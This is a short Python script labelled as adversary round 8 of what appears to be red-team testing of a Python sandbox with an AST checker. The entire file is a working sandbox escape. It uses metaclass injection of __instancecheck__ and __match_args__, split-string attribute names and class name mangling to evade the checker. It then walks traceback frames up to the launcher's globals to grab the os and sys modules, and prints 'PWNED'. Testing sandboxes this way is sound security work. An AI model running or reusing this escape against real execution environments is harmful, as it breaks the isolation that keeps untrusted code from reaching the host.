# adversary round 8: 008: no type() alias: a metaclass's __new__ injects __instancecheck__/__match_args__ into class namespaces at run time; name mangling (__P -> _C__P) gets the class patterns past the walker; reads __traceback__, tb_frame, f_back up to the launcher's main() frame and its f_globals
pending = []


class Meta(type):
    def __new__(mcls, name, bases, ns):
        if pending:
            ns.update(pending.pop())
        return super().__new__(mcls, name, bases, ns)


pending.append({'__instance' + 'check__': lambda cls, obj: True})


class AnyMeta(type, metaclass=Meta):
    pass


def maker(field):
    pending.append({'__match' + '_args__': (field,)})

    class G(metaclass=AnyMeta):
        pass
    return G


_C__TB = maker('__trace' + 'back__')
_C__FR = maker('tb' + '_frame')
_C__BACK = maker('f' + '_back')
_C__GL = maker('f' + '_globals')


class __TB:
    pass


class __FR:
    pass


class __BACK:
    pass


class __GL:
    pass


class C:
    def frame_of(exc):
        match exc:
            case __TB(__FR(fr)):
                return fr

    def back(fr):
        match fr:
            case __BACK(b):
                return b

    def glob(fr):
        match fr:
            case __GL(g):
                return g


try:
    1 / 0
except ZeroDivisionError as e:
    fr = C.frame_of(e)
print(type(fr), fr)
chain = []
while fr is not None:
    chain.append(fr)
    fr = C.back(fr)
print(chain)
lg = C.glob(chain[-1])
print(sorted(k for k in lg if not k.startswith('_'))[:12])
osm = lg['os']
print(osm, osm.getpid(), lg['sys'].modules['posix'])
print('PWN' + 'ED')
